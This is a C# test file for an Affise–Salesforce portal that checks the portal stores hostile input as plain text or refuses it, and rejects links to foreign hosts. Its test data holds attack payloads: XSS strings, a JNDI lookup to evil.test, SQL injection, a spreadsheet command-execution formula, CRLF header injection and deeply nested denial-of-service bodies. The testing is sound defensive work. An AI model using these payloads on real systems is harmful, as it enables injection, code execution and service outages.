using System.Net;
using System.Text;
using AffiseSfPortal.Components.Shared;
using AffiseSfPortal.Domain;
using AffiseSfPortal.Features.FieldMapping.Work;
using AffiseSfPortal.Features.Marketplace.Connection;
using AffiseSfPortal.Intake;
using AffiseSfPortal.Salesforce;
using AffiseSfPortal.Tests.Features.Api;
using AffiseSfPortal.Tests.Persistence;
using AffiseSfPortal.Tests.Salesforce;
using Bunit;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Kind = AffiseSfPortal.Salesforce.SalesforceFaultKind;
using SmallOrg = AffiseSfPortal.Tests.Features.FieldMapping.Org;

namespace AffiseSfPortal.Tests.Network;

/// <summary>What harms readers, given at every door: kept as text, or refused by field with its reason; neighbours lose nothing.</summary>
public sealed class HostileDataTests(ApiPortal bench) : UiTest, IClassFixture<ApiPortal>
{
    private static readonly string[] Texts =
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(1)", "=HYPERLINK(\"https://evil.test\",\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0",
        "a\0b", "a\r\nSet-Cookie: portal=x", "\u202egpj.exe", "\u2066a\u2069", "\ud800", "\udc00\ud800x", "\u001b[31mred", "\ufffe\uffff", "'; DROP TABLE \"Affiliates\";--", "{{constructor.constructor('x')()}}",
        "${jndi:ldap://evil.test/a}", "%0d%0aX: y", "\u2028\u2029", "\u0085\u009b", "z\u0335\u0335\u0335\u0335\u0335", new string('x', 250_000), string.Concat(Enumerable.Repeat("😀", 300)), new string('<', 255), " ", "\u200b",
    ];

    public static TheoryData<int> Each => [.. Enumerable.Range(0, Texts.Length)];

    [Theory]
    [MemberData(nameof(Each))]
    public async Task Push_HostileItemBetweenTwoOthers_IsTextOrRefusedByFieldAndTheOthersAreTaken(int index)
    {
        var (text, id) = (Texts[index], 700_000 + (10 * index));
        var evil = Escaped(text);
        var body = $$"""
            [{"id":{{id}},"email":"a{{id}}@ok.example","login":"One"},
             {"id":{{id + 1}},"email":"b{{id}}@ok.example","login":{{evil}},"contactPerson":{{evil}},"notes":{{evil}},"phone":{{evil}},"city":{{evil}},"address_1":{{evil}},"zip_code":{{evil}},"manager":{{evil}},"tags":[{{evil}}],"customFields":[{"name":{{evil}},"value":{{evil}}}],{{evil}}:{{evil}}},
             {"id":{{id + 2}},"email":"c{{id}}@ok.example","login":"Three"}]
            """;

        var results = await bench.Script.ResultsAsync(body);

        Assert.Equal(("accepted", "accepted"), (results[0].Verdict(), results[2].Verdict()));
        var stored = await bench.Portal.ReadAsync(db => db.Affiliates.AsNoTracking().SingleOrDefaultAsync(a => a.AffiliateId == $"{id + 1}", TestPortal.Cancel));
        if (results[1].Verdict() != "accepted")
        {
            Assert.Null(stored);
            Assert.All(results[1]!["errors"]!.AsArray(), e =>
            {
                Assert.NotEmpty(e!["field"]!.GetValue<string>());
                Assert.InRange(e["message"]!.GetValue<string>().Length, 10, 1_000);
            });
            return;
        }
        AssertPlain(stored!);
    }

    [Theory]
    [MemberData(nameof(Each))]
    public async Task Editor_HostileText_IsTextOrRefusedByField(int index)
    {
        var text = Texts[index];
        var intake = bench.Portal.Services.GetRequiredService<IAffiliateIntake>();

        var result = await intake.SaveAsync(new AffiliateInput { Email = $"e{index}@ok.example", CompanyName = text, ContactPerson = text, Notes = text, Phone = text, City = text, Manager = text }, null, TestPortal.Cancel);

        if (result.Status != IntakeStatus.Saved)
        {
            Assert.NotEmpty(result.Errors);
            Assert.All(result.Errors, e => Assert.NotEmpty(e.FieldKey));
            return;
        }
        AssertPlain(await bench.Portal.ReadAsync(db => db.Affiliates.AsNoTracking().SingleAsync(a => a.Key == result.Key, TestPortal.Cancel)));
    }

    [Fact]
    public async Task Push_BodyThatNobodyCanRead_IsRefusedWholeWithItsReason()
    {
        // A hundred thousand levels would end the process of whoever follows them.
        using var deep = await bench.Script.PushAsync(new string('[', 100_000) + new string(']', 100_000));
        await deep.RefusedAsync(HttpStatusCode.BadRequest, "invalid-json");
        using var nested = await bench.Script.PushAsync("[" + string.Concat(Enumerable.Repeat("{\"a\":", 50_000)) + "1" + new string('}', 50_000) + "]");
        await nested.RefusedAsync(HttpStatusCode.BadRequest, "invalid-json");
        using var bytes = await bench.Script.PushAsync([.. "[{\"id\":1,\"login\":\""u8, 0xC3, 0x28, 0xF0, 0x9F, .. "\"}]"u8]);
        await bytes.RefusedAsync(HttpStatusCode.BadRequest, "invalid-json");
        using var large = await bench.Script.PushAsync("[\"" + new string('x', 5_000_000) + "\"]");
        await large.RefusedAsync(HttpStatusCode.RequestEntityTooLarge, "too-large");
        var one = await bench.Script.ResultsAsync($$"""[{"id":900001,"email":"x1@ok.example"},{"id":900002,"email":"x2@ok.example","notes":"{{new string('x', 1_000_000)}}"},{"id":900003,"email":"x3@ok.example"}]""");
        Assert.Equal(["accepted", "notes too-long", "accepted"], one.Select(r => r.Verdict()));
        using var cut = await bench.Script.PushAsync("[{\"id\":1,");
        await cut.RefusedAsync(HttpStatusCode.BadRequest, "invalid-json");
    }

    [Fact]
    public void MappingFile_NobodyCanRead_IsDamaged()
    {
        var targets = SmallOrg.Granted(SmallOrg.Key);
        string Rows(string rows) => $$"""{"format":"affise-salesforce-mapping","v":1,"object":"Lead","match":null,"rows":[{{rows}}]}""";
        var files = new[]
        {
            new string('[', 100_000), Rows(string.Concat(Enumerable.Repeat("{\"a\":", 10_000))), Rows("{\"source\":null,\"target\":\"Company\"}"), Rows("{\"source\":\"login\",\"target\":null}"),
            Rows("{\"source\":\"\\ud800\",\"target\":\"Company\"}"), Rows($"{{\"source\":\"login\",\"target\":\"{new string('x', 1_000)}\"}}"), Rows("null"), Rows("1"),
            Rows(string.Join(',', Enumerable.Repeat("{\"source\":\"login\",\"target\":\"Company\"}", 1_001))), Rows("{\"source\":\"login\",\"target\":\"Company\",\"steps\":[{\"kind\":\"truncate\",\"number\":1e99}]}"),
            Rows("{\"source\":\"login\",\"target\":\"Company\",\"policy\":\"<script>\"}"), """{"format":"affise-salesforce-mapping","v":1,"object":null,"match":null,"rows":[]}""",
        };

        Assert.All(files, file =>
        {
            var result = MappingFiles.Import(file, SmallOrg.Sources, targets);
            Assert.Null(result.Document);
            Assert.Equal(DocumentFault.Damaged, result.Fault);
        });
    }

    public static TheoryData<string, int, string, string> Replies => new()
    {
        { "a page", 503, "text/html", "<html><script>alert(1)</script><h1>Down</h1><img src=x onerror=alert(1)></html>" },
        { "a page that calls itself JSON", 500, "application/json", "<html><body onload=alert(1)>Down</body></html>" },
        { "deep", 400, "application/json", new string('[', 200_000) },
        { "deep objects", 500, "application/json", string.Concat(Enumerable.Repeat("{\"errorCode\":", 50_000)) },
        { "long words", 400, "application/json", $"[{{\"errorCode\":\"{new string('E', 100_000)}\",\"message\":\"{new string('m', 1_000_000)}\"}}]" },
        { "many errors", 400, "application/json", "[" + string.Join(',', Enumerable.Range(0, 20_000).Select(n => $"{{\"errorCode\":\"X{n}\",\"message\":\"m{n}\",\"fields\":[\"f{n}\"]}}")) + "]" },
        { "markup in words", 400, "application/json", """[{"errorCode":"<b>X</b>","message":"<img src=x onerror=alert(1)>\u202e\u0000","fields":["<img src=x>"]}]""" },
        { "half a pair", 400, "application/json", """[{"errorCode":"\ud800","message":"\udc00","fields":["\ud800"]}]""" },
        { "cut", 400, "application/json", """[{"errorCode":"INVALID_FI""" },
        { "nothing", 502, "", "" },
        { "bytes", 500, "application/octet-stream", "\0\u0001\u0002" },
        { "several", 300, "application/json", "[" + string.Join(',', Enumerable.Repeat("\"/services/data/v60.0/sobjects/Lead/<script>\"", 5_000)) + "]" },
    };

    [Theory]
    [MemberData(nameof(Replies))]
    public async Task Salesforce_HostileRefusal_IsAFaultOfBoundedPlainWords(string name, int status, string type, string body)
    {
        await using var raw = await RawSalesforce.AnswerAsync(status, body, type);

        var refused = await Assert.ThrowsAsync<SalesforceException>(() => raw.Client.QueryAsync(raw.Access, "SELECT Id FROM Lead", TestPortal.Cancel));

        Assert.True(refused.Fault.Message.Length <= 1_000, name);
        Assert.True(refused.Fault.Code.Length <= 100, name);
        Assert.True(refused.Fault.Fields.Count <= 50, name);
        Assert.DoesNotContain(refused.Fault.Message + refused.Fault.Code, c => char.IsControl(c) || c is '\u202e');
        Assert.NotEqual(Kind.InDoubt, refused.Fault.Kind);
    }

    [Theory]
    [InlineData("""{"totalSize":1,"done":true,"records":[{"Name":"\ud800"}]}""")]
    [InlineData("""{"totalSize":1,"done":true,"records":[null]}""")]
    [InlineData("""{"totalSize":"1","done":true,"records":[]}""")]
    [InlineData("""{"totalSize":1,"done":true,"records":[{"\ud800":1}]}""")]
    public async Task Salesforce_QueryThatIsNone_IsAFault(string body)
    {
        await using var raw = await RawSalesforce.AnswerAsync(200, body);
        await Assert.ThrowsAsync<SalesforceException>(() => raw.Client.QueryAsync(raw.Access, "SELECT Id FROM Lead", TestPortal.Cancel));
    }

    [Theory]
    [InlineData("""{"fields":[{"name":"X","type":"string"}]}""", false)]
    [InlineData("""{"name":"Lead","fields":[null,{"name":null,"type":"string"},{"name":"X","type":null},{"name":"Y","type":"picklist","picklistValues":[null,{"value":null},{"value":"<b>"}],"referenceTo":[null]}]}""", true)]
    [InlineData("""{"name":"Lead","fields":[{"name":"\ud800","type":"string"}]}""", false)]
    public async Task Salesforce_DescribeWithHoles_GivesWhatIsWholeOrAFault(string body, bool isRead)
    {
        await using var raw = await RawSalesforce.AnswerAsync(200, body);

        var fault = await Record.ExceptionAsync(async () => Assert.Equal(["Y"], (await raw.Client.DescribeAsync(raw.Access, "Lead", null, TestPortal.Cancel))!.Fields.Select(f => f.Name)));

        Assert.Equal(isRead ? null : typeof(SalesforceException), fault?.GetType());
    }

    [Theory]
    [InlineData("https://acme.my.salesforce.com/00Q5g00000ABCDEFGH", true)]
    [InlineData("https://evil.test/00Q5g00000ABCDEFGH", false)]
    [InlineData("https://acme.my.salesforce.com.evil.test/x", false)]
    [InlineData("http://acme.my.salesforce.com/x", false)]
    [InlineData("http://127.0.0.1/x", false)]
    [InlineData("javascript:alert(1)", false)]
    [InlineData("data:text/html,x", false)]
    [InlineData("//evil.test", false)]
    [InlineData(null, false)]
    public void RecordLink_AddressOfAnotherHost_IsNoLink(string? url, bool isLink)
    {
        Services.AddSingleton<IRecordHosts>(new SalesforceRecordHosts(new SalesforceHostGate(new SalesforceHostOptions())));

        var link = Render<RecordLink>(p => p.Add(l => l.Url, url).Add(l => l.SalesforceId, "<b>00Q</b>"));

        Assert.Equal(isLink ? 1 : 0, link.FindAll("a").Count);
        Assert.Empty(link.FindAll("b"));
        Assert.Contains("<b>00Q</b>", link.Find(".ap-mono").TextContent, StringComparison.Ordinal);
    }

    /// <summary>Every unit as JSON writes it, halves of surrogate pairs too.</summary>
    private static string Escaped(string text) => text.Aggregate(new StringBuilder("\""), (json, c) => c is >= ' ' and < '\u007f' and not ('"' or '\\') ? json.Append(c) : json.Append($"\\u{(int)c:x4}")).Append('"').ToString();

    private static void AssertPlain(Affiliate affiliate)
    {
        var texts = new[] { affiliate.CompanyName, affiliate.ContactPerson, affiliate.Notes, affiliate.Phone, affiliate.City, affiliate.Address1, affiliate.ZipCode, affiliate.Manager }.Concat(affiliate.Tags).OfType<string>();
        Assert.All(texts, t =>
        {
            Assert.InRange(t.Length, 1, 2_000);
            Assert.Equal(PlainText.Of(t), t);
            Assert.DoesNotContain('\0', t);
        });
    }
}
